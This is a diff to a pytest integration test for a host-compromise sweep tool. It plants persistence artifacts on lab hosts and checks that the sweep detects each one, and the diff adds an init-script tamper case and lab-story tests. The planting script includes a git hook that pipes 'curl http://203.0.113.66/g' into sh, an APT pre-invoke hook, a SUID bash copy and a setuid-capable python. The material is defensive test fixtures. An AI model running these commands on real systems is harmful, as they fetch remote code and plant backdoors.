@@ -4,7 +4,6 @@ administrators do, and one that is away. What belongs to a machine's kernel (mod
 from __future__ import annotations
 
 import asyncio
-import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -12,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from integrations.lab import Lab
 from integrations.linux.provider import PROVIDER
 from tasks.checks._collect.hosts import SurveyedHost, ssh_logs
 from tenantry.capabilities import HostLogin, HostRef
@@ -22,6 +22,8 @@ from tenantry.sweep.discover import checks
 from tenantry.sweep.engine import Detections
 from tenantry.sweep.live import sweep_tenant
 from tenantry.sweep.model import Finding, Sweep
+from tests.support.fake_host import FakeHost
+from tests.support.fakes import NOW as STORY
 from tests.support.hosts import SMALL, HostNet, Key, host_net
 
 _PLANTED = r"""
@@ -59,7 +61,7 @@ echo 'APT::Update::Pre-Invoke {{"nohup /var/tmp/.u/upd &";}};' > etc/apt/apt.con
 printf '#!/bin/sh\ncurl -s http://203.0.113.66/g | sh\n' > home/alice/src/.git/hooks/post-checkout; chmod 755 home/alice/src/.git/hooks/post-checkout
 cp bin/bash usr/local/bin/report; chmod 4755 usr/local/bin/report
 cp usr/bin/python3.11 usr/local/bin/py; chroot . setcap cap_setuid+ep /usr/local/bin/py
-printf x >> usr/bin/chsh
+printf x >> usr/bin/chsh; echo '# x' >> etc/init.d/ssh
 mkdir -p etc/grub.d; printf '#!/bin/sh\necho x\n' > etc/grub.d/99_local; chmod 755 etc/grub.d/99_local
 echo 'install usb-storage /usr/local/bin/notify' > etc/modprobe.d/zz.conf
 ln -s /dev/null home/alice/.bash_history
@@ -162,7 +164,6 @@ class Swept:
     sweep: Sweep
     net: HostNet
     left: dict[str, str]
-    took: float
 
     def of(self, host: str) -> list[Finding]:
         return [one for one in self.sweep.findings if host in str(one.entity["id"])]
@@ -183,19 +184,19 @@ class Access:
         return self._host
 
 
-async def _sweep(net: HostNet, settings: dict[str, Any], known: Known) -> tuple[Sweep, float]:
+async def _asked(host: Any, now: datetime, known: Known) -> Sweep:
+    return await sweep_tenant(
+        Access(host),  # type: ignore[arg-type]  # as much of it as is used
+        [check for check in checks() if check.name.startswith("checks.host.")],
+        Look(now, now - timedelta(days=30), known),
+        {"sshd": Detections.load("sshd", (SHIPPED / "detections",))},
+    )
+
+
+async def _sweep(net: HostNet, settings: dict[str, Any], known: Known) -> Sweep:
     handle = await PROVIDER.open(settings, net.secrets())
     try:
-        now = datetime.now(UTC)
-        asked = [check for check in checks() if check.name.startswith("checks.host.")]
-        begun = time.monotonic()
-        sweep = await sweep_tenant(
-            Access(handle.capability("host")),  # type: ignore[arg-type]  # as much of it as is used
-            asked,
-            Look(now, now - timedelta(days=30), known),
-            {"sshd": Detections.load("sshd", (SHIPPED / "detections",))},
-        )
-        return sweep, time.monotonic() - begun
+        return await _asked(handle.capability("host"), datetime.now(UTC), known)
     finally:
         await handle.aclose()
 
@@ -227,7 +228,7 @@ def swept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Swept]:
         settings["hosts"]["away"] = {"address": f"{net.subnet}.250", "host_keys": [Key().public]}
         settings["connect_timeout"] = 2
         ours = Known(keys=frozenset({known.fingerprint.removeprefix("SHA256:")}), tools=frozenset({"meshcentral"}))
-        sweep, took = asyncio.run(_sweep(net, settings, ours))
+        sweep = asyncio.run(_sweep(net, settings, ours))
         left = {
             host.name: host.run(
                 "find / -xdev ! -path '/proc/*' ! -path '/sys/*' -newer /run/begun ! -type d; find /run /tmp /var/tmp /dev/shm -newer /run/begun"
@@ -235,7 +236,7 @@ def swept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Swept]:
             )
             for host in (web, clean)
         }
-        yield Swept(sweep, net, left, took)
+        yield Swept(sweep, net, left)
 
 
 def test_everything_that_is_planted_is_found(swept: Swept) -> None:
@@ -258,6 +259,7 @@ def test_everything_that_is_planted_is_found(swept: Swept) -> None:
         ("login_records_tampered", "/var/log/wtmp zeroed"),
         ("suid_unowned", "/usr/local/bin/report"),
         ("package_file_altered", "/usr/bin/chsh"),
+        ("package_file_altered", "/etc/init.d/ssh"),
         ("remote_access_tool", "anydesk"),
         ("remote_access_tool", "cloudflared"),
     ],
@@ -285,6 +287,19 @@ def test_nothing_is_left_behind(swept: Swept) -> None:
     logs = ("/var/log/", "/run/sudo/", "/run/lock")
     for host, left in swept.left.items():
         assert [line for line in left.splitlines() if not line.startswith(logs)] == [], host
+
+
+# --- the lab's ---
+
+
+@pytest.mark.parametrize("story", ["compromised_host", "ransomware"])
+async def test_the_labs_stories(story: str) -> None:
+    state = Lab(story, users=20, clock=lambda: STORY).tenant.hosts
+    sweep = await _asked(FakeHost([], state), STORY, Known())
+    grave = {(one.entity["id"], one.rule) for one in sweep.findings if one.severity in ("high", "critical")}
+    named = ("cron_job_suspicious", "executable_deleted", "program_in_temporary_folder", "unit_unowned")
+    assert {("web1", f"checks.host.{rule}") for rule in named} <= grave
+    assert {host for host, _ in grave} == ({"web1"} if story == "compromised_host" else {"web1", "mon1"})
 
 
 # --- without hosts ----------------------------------------------------------------------------------------------------
